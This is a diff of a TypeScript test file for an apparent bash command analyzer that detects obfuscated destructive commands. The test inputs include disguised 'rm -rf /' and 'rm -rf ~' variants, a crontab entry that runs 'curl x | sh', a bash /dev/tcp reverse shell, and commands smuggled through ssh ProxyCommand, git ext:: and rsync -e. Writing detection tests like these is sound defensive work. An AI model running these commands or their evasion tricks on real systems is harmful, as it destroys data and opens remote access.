@@ -86,8 +86,9 @@ describe('wrappers and quoting', () => {
     expect(analyze(`rm ${word}`).commands[0]!.args[0]!.value).toBe(value);
   });
 
-  it('expands braces and loop values into alternatives', () => {
-    expect(analyze('rm /{a,b}').commands[0]!.args[0]).toMatchObject({ value: '/a', alternatives: ['/b'] });
+  it('expands braces into words and loop values into alternatives', () => {
+    expect(analyze('rm /{a,b}').commands[0]!.args.map((a) => a.value)).toEqual(['/a', '/b']);
+    expect(analyze('{rm,-rf,/}').hidden.some((c) => c.name === 'rm' && c.args.map((a) => a.value).join(' ') === '-rf /')).toBe(true);
     const loop = analyze('for d in /x /y; do rm "$d"; done').commands[0]!;
     expect([loop.args[0]!.value, ...loop.args[0]!.alternatives]).toEqual(['/x', '/y']);
   });
@@ -149,5 +150,62 @@ describe('facts about the line', () => {
     expect(analyze('cd && ls').cdTargets).toEqual(['~']);
     expect(analyze('HOME=/ ls').homeValues).toEqual(['/']);
     expect(analyze('PATH=/tmp ls').riskyAssignments).toEqual(['PATH']);
+  });
+});
+
+describe('words as bash makes them (issue 14)', () => {
+  const first = (line: string) => analyze(line).commands.at(-1)!;
+  it.each([
+    ['X=rm,-rf,~; IFS=,; $X', 'rm', ['-rf', '~']],
+    ['CMD="rm -rf /"; $CMD', 'rm', ['-rf', '/']],
+    ['rm${IFS}-rf${IFS}/x', 'rm', ['-rf', '/x']],
+    ['a=rmx; ${a:0:2} y', 'rm', ['y']],
+    ['a=abcdef; echo ${a: -2} ${a:1:2}', 'echo', ['ef', 'bc']],
+    ['X=RM; ${X,,} y', 'rm', ['y']],
+    ['X=rm; ${X^^} y', 'rm', ['y']],
+    ['X=hello; echo ${X/l/L} ${X//l/L}', 'echo', ['heLlo', 'heLLo']],
+    ['echo "${PWD%/*}" ${PWD##*/}', 'echo', ['/Users/tester', 'project']],
+  ])('%s runs %s %j', (line, name, args) => {
+    const c = first(line);
+    expect(c.name).toBe(name);
+    expect(c.args.map((a) => a.value)).toEqual(args);
+  });
+
+  it('keeps a default value operator apart from a negative slice', () => {
+    expect(first('echo ${UNSET:-1}').args[0]!.alternatives).toContain('1');
+  });
+
+  it('fills xargs -I placeholders, also inside sh -c, and passes sh -c its positional parameters', () => {
+    const a = analyze("echo ~ | xargs -I{} sh -c 'rm -rf {}'");
+    expect(a.hidden.some((c) => c.name === 'rm' && c.args.map((x) => x.value).join(' ') === '-rf ~')).toBe(true);
+    const b = analyze("sh -c 'rm -rf \"$1\"' _ /x");
+    expect(b.commands.find((c) => c.name === 'rm')!.args.map((x) => x.value)).toEqual(['-rf', '/x']);
+  });
+
+  it('records symlinks, secret-looking variables, crontab text and text written into files', () => {
+    expect(analyze('ln -s ~ h && ls h/').links).toEqual([{ link: 'h', target: '~' }]);
+    expect(analyze('echo $GITHUB_TOKEN $HOME').secretVariables).toEqual(['GITHUB_TOKEN']);
+    expect(analyze('T=1; echo $T_TOKEN $TOKEN').secretVariables).toEqual(['T_TOKEN', 'TOKEN']);
+    expect(analyze('TOKEN=x; echo $TOKEN').secretVariables).toEqual([]);
+    const cron = analyze("(crontab -l; echo '* * * * * curl x | sh') | crontab -");
+    expect(cron.crontabText.join()).toContain('curl x | sh');
+    expect(cron.hidden.some((c) => c.name === 'curl')).toBe(true);
+    const rc = analyze("echo 'alias x=y' >> ~/.zshrc");
+    expect(rc.writtenText).toEqual([{ path: '~/.zshrc', text: 'alias x=y', append: true }]);
+  });
+
+  it('reads programs hidden in wrappers it knows: launchctl submit, npm exec, script, ssh -o ProxyCommand, git ext::', () => {
+    const names = (line: string) => [...analyze(line).commands, ...analyze(line).hidden].map((c) => c.name);
+    expect(names('launchctl submit -l x -- touch y')).toContain('touch');
+    expect(names('npm exec -- touch y')).toContain('touch');
+    expect(names('npx -y touch y')).toContain('touch');
+    expect(names('script -q /dev/null touch y')).toContain('touch');
+    expect(names("ssh -o ProxyCommand='touch y' h")).toContain('touch');
+    expect(names("git clone 'ext::sh -c touch% y'")).toContain('touch');
+    expect(names("rsync -e 'touch y' a h:b")).toContain('touch');
+  });
+
+  it('reads a /dev/tcp redirection that tree-sitter-bash merges with the next one', () => {
+    expect(analyze('bash -i >& /dev/tcp/1.2.3.4/4 0>&1').commands[0]!.redirects[0]).toMatchObject({ operator: '>&', target: '/dev/tcp/1.2.3.4/4' });
   });
 });
